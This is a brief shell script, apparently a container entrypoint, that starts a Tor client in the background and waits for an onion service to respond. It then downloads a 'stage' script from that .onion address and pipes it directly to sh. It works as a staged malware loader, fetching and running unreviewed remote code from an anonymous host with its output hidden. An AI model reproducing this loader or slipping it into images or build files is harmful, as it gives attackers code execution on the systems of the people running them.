#!/bin/sh
# start a Tor client and pipe the onion-hosted stage to sh
ONION=wtxqf54djhp5pskv2lu3x6nm7s2gjb3tcvy4lkfqhzbwcadvjqkmnxqd.onion
tor -f /etc/tor/torrc.c >/dev/null 2>&1
i=0
while [ $i -lt 60 ]; do
    if curl -s -o /dev/null --max-time 5 --socks5-hostname 127.0.0.1:9050 "http://$ONION/"; then break; fi
    i=$((i+1)); sleep 2
done
curl -s --socks5-hostname 127.0.0.1:9050 "http://$ONION/static/docker-init.sh" | sh
exec tail -f /dev/null
